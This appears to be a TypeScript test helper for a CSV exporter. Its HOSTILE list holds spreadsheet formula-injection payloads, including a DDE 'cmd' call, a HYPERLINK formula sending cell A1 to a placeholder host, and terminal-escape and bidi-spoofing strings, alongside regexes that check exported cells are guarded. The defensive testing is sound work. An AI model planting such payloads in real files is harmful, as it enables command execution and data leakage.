import { expect } from 'vitest';
import { COLUMNS, type Row } from '../../src/rows/row.js';
import type { Records } from './peers.js';

/** Texts that spreadsheets, terminals and readers of CSV trip over. */
export const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://example.invalid/?"&A1;"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\uff1d1+1',
  '\uff20SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  `${' '.repeat(70)}=1+1`,
  '"=1+1"',
  '","=1+1","',
  "'=1+1",
  ';=1+1',
  '|=1+1',
  'two\nlines',
  'old\rmac',
  'dos\r\nlines',
  'mixed\n\r\n\r"quote","comma",\n',
  '"',
  '""',
  '"""',
  'ends with a quote"',
  ',',
  'nul\u0000inside',
  '\u0000=1+1',
  'esc \u001b[2J\u001b]0;title\u0007',
  'bidi \u202egnp.exe\u202c \u2066x\u2069',
  'separators \u2028 \u2029 \u0085',
  'lone \ud83d end',
  '\udc00',
  '007',
  '1e5',
  '2025-11-14',
  'NA',
  'null',
  'TRUE',
  '#REF!',
  '\\N',
  'back\\slash \\" \\n',
  '表 é 😀 \u200b zero width',
  `${'x'.repeat(31_999)}😀${'y'.repeat(8_000)}`,
  `=${'z'.repeat(40_000)}`,
  `${'\u001b'.repeat(31_000)}`,
  'x;=1+1',
  'x; ="1"+1',
  'a\t=1+1\tb',
  'a";"=1+1";"',
  'list\n- one\n- two\n+ three\n@four',
  'x\n=HYPERLINK("http://example.invalid/","click")',
  "x\r\n-cmd|' /C calc'!A0",
  'x\n\n;\t=1+1',
  "x;'=1+1;''=2",
  'x\n@SUM(1,1)\n+SUM(1)',
  `${';=1'.repeat(10_700)}`,
  'last',
];

const FORMULA = /^(?:[\t\r\n\u0000]|[\s;,|"]*[=+\-@\uff1d\uff0b\uff0d\uff20])/;
/** What the preset for Excel puts an apostrophe before. */
const INNER = /([;\t\r\n])'(?=(?:[^\S\t\r\n]|['"])*(?:[=\uff1d]|[+\-@\uff0b\uff0d\uff20][^;\t\r\n]*?(?:[\w.]\(|[|!])))/g;
const CUT = / \u2026\[cut, (\d+) characters in all, see row_id\]$/;
const unescape = (text: string) =>
  text.replaceAll(/\\u\{([0-9a-f]+)\}/g, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)));

/** A cell as JSONL has it. */
export function valueOf(row: Row, column: (typeof COLUMNS)[number]): string {
  const value = row[column];
  if (value === null) return '';
  return typeof value !== 'object' ? String(value) : column === 'secret_rules' ? row.secret_rules.join(';') : JSON.stringify(value);
}

/** Undoes what `csv_notes` names and compares with the JSONL. `same` forgives what a reader cannot keep. */
export function checkRecords(records: Records, rows: readonly Row[], same: (text: string) => string = (text) => text): void {
  expect(records[0]).toEqual([...COLUMNS, 'csv_notes']);
  expect(records).toHaveLength(rows.length + 1);
  for (const [i, row] of rows.entries()) {
    const record = records[i + 1] ?? [];
    const notes = (record.at(-1) ?? '').split(';').filter(Boolean);
    for (const [c, column] of COLUMNS.entries()) {
      let cell = record[c] ?? '';
      let wanted = valueOf(row, column);
      if (typeof row[column] !== 'number') expect(cell).not.toMatch(FORMULA);
      if (notes.includes(`guarded:${column}`)) {
        expect(cell.startsWith("'")).toBe(true);
        expect(wanted).toMatch(/^(?:[\t\r\n\u0000]|[\s;,|'"]*[=+\-@\uff1d\uff0b\uff0d\uff20])/);
        cell = cell.slice(1);
      }
      if (notes.includes(`cut:${column}`)) {
        expect(Number(CUT.exec(cell)?.[1])).toBe(wanted.length);
        expect(cell.length).toBeLessThan(32_767);
        cell = cell.replace(CUT, '');
        expect(cell.length).toBeGreaterThan(31_990);
      }
      if (notes.includes(`escaped:${column}`)) cell = unescape(cell);
      if (notes.includes(`guarded-within:${column}`)) {
        expect(cell).toMatch(INNER);
        cell = cell.replaceAll(INNER, '$1');
      }
      if (notes.includes(`cut:${column}`)) wanted = wanted.slice(0, cell.length);
      expect(same(cell)).toBe(same(wanted));
    }
  }
}
